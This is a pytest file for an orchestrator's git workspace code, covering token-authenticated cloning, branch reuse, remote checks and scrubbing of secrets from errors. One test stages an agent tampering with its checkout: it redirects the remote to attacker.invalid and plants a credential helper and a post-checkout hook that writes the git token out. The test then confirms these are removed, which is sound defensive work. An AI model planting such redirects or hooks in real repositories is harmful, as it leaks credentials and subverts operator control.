"""Git against a real token-protected HTTP remote: clone, reuse, branches, failures, no leaked token."""

from __future__ import annotations

from contextlib import nullcontext
from pathlib import Path

import pytest

from orchestrator.workspace.git import (
    Git,
    PermanentGitError,
    TransientGitError,
    WrongRemote,
    classify,
    normalize_url,
    scrub,
)
from orchestrator.workspace.git import CheckoutResult
from orchestrator.workspace.worktree import checkout_worktree
from tests.support.git_server import GitHttpServer, git
from tests.workspace.conftest import REPO_URL, TOKEN, files_containing


def make_git(service: Path, token: str = TOKEN) -> Git:
    """A run's worktree in the service directory `service`, of the service's clone, as preparation lays them out."""
    service.mkdir(parents=True, exist_ok=True)
    return Git(service / "worktrees" / "1", token=token, timeout=30, secrets=(token,), clone=clone_of(service))


def clone_of(service: Path) -> Path:
    return service / ".clone"


def prepare_checkout(tree: Git, *, url: str, base_branch: str, branch: str) -> CheckoutResult:
    """What preparation does for one run: the service clone refreshed, the run's worktree put on `branch`."""
    assert tree.clone is not None
    clone = Git(tree.clone, token=tree.token, timeout=tree.timeout, secrets=tree.secrets)
    return checkout_worktree(clone, tree, url=url, base_branch=base_branch, branch=branch, lock=nullcontext,
                             fetch_reuse_seconds=0)


def test_first_clone_creates_the_task_branch_from_the_base(remote: Path, tmp_path: Path,
                                                          git_server: GitHttpServer) -> None:
    repo = make_git(tmp_path / "ws" / "shop")
    result = prepare_checkout(repo, url=REPO_URL, base_branch="develop", branch="task-7")
    assert result.cloned and result.started_from == "base"
    assert git("rev-parse", "--abbrev-ref", "HEAD", cwd=repo.directory) == "task-7"
    assert result.commit == git("rev-parse", "develop", cwd=remote)
    assert (repo.directory / "DEVELOP.md").exists()
    # The task branch does not track the base, so a plain `git push` cannot land on it.
    assert repo.run("config", "--get", "branch.task-7.merge", check=False).returncode != 0
    # The clone needed the token: unauthenticated requests were refused, then one with it passed.
    assert any(not ok for _, _, ok in git_server.requests)
    assert any(ok for _, _, ok in git_server.requests)
    assert git("config", "--get", "remote.origin.url", cwd=repo.directory) == REPO_URL
    assert files_containing(repo.directory.parent.parent, TOKEN) == []


def test_reuse_fetches_keeps_committed_work_and_drops_uncommitted(remote: Path, tmp_path: Path) -> None:
    repo = make_git(tmp_path / "ws" / "shop")
    prepare_checkout(repo, url=REPO_URL, base_branch="main", branch="task-7")
    # The agent commits on its branch, then leaves a modified and an untracked file.
    (repo.directory / "feature.py").write_text("done\n")
    git("add", "feature.py", cwd=repo.directory)
    git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "agent work", cwd=repo.directory)
    agent_commit = git("rev-parse", "HEAD", cwd=repo.directory)
    (repo.directory / "README.md").write_text("half-edited\n")
    (repo.directory / "scratch.txt").write_text("junk\n")
    # Meanwhile the remote's main moves on.
    seed = tmp_path / "seed"
    (seed / "NEW.md").write_text("new\n")
    git("add", "NEW.md", cwd=seed)
    git("commit", "-qm", "new on main", cwd=seed)
    git("push", "-q", str(remote), "main:main", cwd=seed)

    result = prepare_checkout(repo, url=REPO_URL, base_branch="main", branch="task-7")
    assert not result.cloned and result.started_from == "local"
    assert result.commit == agent_commit
    assert (repo.directory / "feature.py").read_text() == "done\n"
    assert (repo.directory / "README.md").read_text() == "# shop\n"
    assert not (repo.directory / "scratch.txt").exists()
    assert git("rev-parse", "origin/main", cwd=repo.directory) == git("rev-parse", "main", cwd=seed)

    # Another task on the same checkout starts from the refreshed base.
    other = prepare_checkout(repo, url=REPO_URL, base_branch="main", branch="task-8")
    assert other.started_from == "base" and (repo.directory / "NEW.md").exists()
    assert not (repo.directory / "feature.py").exists()


def test_work_pushed_earlier_is_picked_up(remote: Path, tmp_path: Path) -> None:
    seed = tmp_path / "seed"
    git("checkout", "-qb", "task-9", "main", cwd=seed)
    (seed / "pushed.txt").write_text("from an earlier run\n")
    git("add", "pushed.txt", cwd=seed)
    git("commit", "-qm", "pushed", cwd=seed)
    git("push", "-q", str(remote), "task-9:task-9", cwd=seed)
    repo = make_git(tmp_path / "ws" / "shop")
    result = prepare_checkout(repo, url=REPO_URL, base_branch="main", branch="task-9")
    assert result.started_from == "remote"
    assert (repo.directory / "pushed.txt").exists()


def test_a_checkout_of_another_repository_is_refused(remote: Path, git_server: GitHttpServer,
                                                     tmp_path: Path) -> None:
    git_server.create_repository("acme/other", tmp_path / "seed-other", branches={"main": {"a": "b"}})
    repo = make_git(tmp_path / "ws" / "shop")
    prepare_checkout(repo, url="https://git.example.test/acme/other.git", base_branch="main", branch="task-1")
    with pytest.raises(WrongRemote) as info:
        prepare_checkout(repo, url=REPO_URL, base_branch="main", branch="task-1")
    assert "another repository" in str(info.value)
    assert not info.value.transient
    # The same repository spelled differently is the same repository.
    prepare_checkout(repo, url="https://GIT.example.test/acme/other", base_branch="main", branch="task-1")


def test_a_foreign_checkout_without_origin_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "ws" / "shop"
    foreign = clone_of(path)  # where the service clone would be: a repository of someone else's
    foreign.mkdir(parents=True)
    git("init", "-q", str(foreign))
    (foreign / "f").write_text("x")
    git("add", "f", cwd=foreign)
    git("commit", "-qm", "local", cwd=foreign)
    with pytest.raises(WrongRemote):
        prepare_checkout(make_git(path), url=REPO_URL, base_branch="main", branch="task-1")


def test_a_missing_base_branch_is_permanent(remote: Path, tmp_path: Path) -> None:
    with pytest.raises(PermanentGitError) as info:
        prepare_checkout(make_git(tmp_path / "ws" / "shop"), url=REPO_URL, base_branch="nope", branch="task-1")
    assert "'nope' does not exist" in str(info.value)


@pytest.mark.parametrize("branch", ["main", "develop"])
def test_the_task_branch_is_never_the_base_or_default_branch(remote: Path, tmp_path: Path, branch: str) -> None:
    with pytest.raises(PermanentGitError):
        prepare_checkout(make_git(tmp_path / "ws" / "shop"), url=REPO_URL, base_branch="develop", branch=branch)


def test_bad_credentials_are_permanent_and_scrubbed(remote: Path, tmp_path: Path,
                                                   git_server: GitHttpServer) -> None:
    wrong = "ghp_WRONGtoken_0000000000000000"
    repo = make_git(tmp_path / "ws" / "shop", token=wrong)
    with pytest.raises(PermanentGitError) as info:
        prepare_checkout(repo, url=REPO_URL, base_branch="main", branch="task-1")
    assert "Authentication failed" in str(info.value) or "401" in str(info.value)
    assert wrong not in str(info.value)
    assert git_server.auth_headers  # git did send the (wrong) token: the helper was used
    assert files_containing(repo.directory.parent.parent, wrong) == []


def test_a_token_with_shell_characters_reaches_git_unchanged(remote: Path, tmp_path: Path,
                                                             git_server: GitHttpServer) -> None:
    odd = 'ghp_a\\nb$HOME"c`d %s'
    git_server.token = odd
    repo = make_git(tmp_path / "ws" / "shop", token=odd)
    prepare_checkout(repo, url=REPO_URL, base_branch="main", branch="task-1")
    assert files_containing(repo.directory.parent.parent, odd) == []


def test_no_token_means_no_access(remote: Path, tmp_path: Path) -> None:
    with pytest.raises(PermanentGitError):
        prepare_checkout(make_git(tmp_path / "ws" / "shop", token=""), url=REPO_URL, base_branch="main",
                        branch="task-1")


def test_server_errors_and_unreachable_hosts_are_transient(remote: Path, tmp_path: Path,
                                                          git_server: GitHttpServer,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    git_server.fail_status = 503
    with pytest.raises(TransientGitError):
        prepare_checkout(make_git(tmp_path / "ws" / "a"), url=REPO_URL, base_branch="main", branch="task-1")
    git_server.fail_status = None
    import socket
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        closed_port = sock.getsockname()[1]
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", "https://git.example.test/")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", f"url.http://127.0.0.1:{closed_port}/.insteadOf")
    with pytest.raises(TransientGitError):
        prepare_checkout(make_git(tmp_path / "ws" / "b"), url=REPO_URL, base_branch="main", branch="task-1")


def test_settings_planted_in_the_checkout_are_removed(remote: Path, tmp_path: Path,
                                                     git_server: GitHttpServer) -> None:
    repo = make_git(tmp_path / "ws" / "shop")
    prepare_checkout(repo, url=REPO_URL, base_branch="main", branch="task-1")
    # An agent redirects the remote to a server it controls and adds a hook and a helper.
    git("config", "url.http://attacker.invalid/.insteadOf", git_server.url, cwd=repo.directory)
    git("config", "credential.helper", "store", cwd=repo.directory)
    hook = repo.common_dir / "hooks" / "post-checkout"
    hook.parent.mkdir(exist_ok=True)
    marker = tmp_path / "hook-ran"
    hook.write_text(f"#!/bin/sh\necho \"$ORCHESTRATOR_GIT_TOKEN\" > {marker}\n")
    hook.chmod(0o755)
    (repo.git_dir / "index.lock").write_text("")  # a crashed git left its lock
    prepare_checkout(repo, url=REPO_URL, base_branch="main", branch="task-1")
    config = (repo.common_dir / "config").read_text()
    assert "attacker" not in config and "credential" not in config
    assert not marker.exists()
    assert files_containing(tmp_path / "ws", TOKEN) == []


def test_classification_and_scrubbing_are_pure() -> None:
    assert classify("fatal: unable to access 'https://x/': Could not resolve host: x", network=True)
    assert classify("error: RPC failed; HTTP 502 curl 22 The requested URL returned error: 502", network=True)
    assert not classify("fatal: Authentication failed for 'https://x/'", network=True)
    assert not classify("fatal: couldn't find remote ref nope", network=True)
    assert classify("something odd", network=True) and not classify("something odd", network=False)
    text = "fatal: unable to access 'https://user:s3cr3t@host/r.git/' token=abc123SECRET Authorization: Basic Zm9v"
    clean = scrub(text, ["abc123SECRET"])
    assert "s3cr3t" not in clean and "abc123SECRET" not in clean and "Zm9v" not in clean
    assert normalize_url("https://GitHub.com/a/b.git/") == normalize_url("https://github.com/a/b")
    assert normalize_url("git@github.com:a/b.git") != normalize_url("https://github.com/a/b")
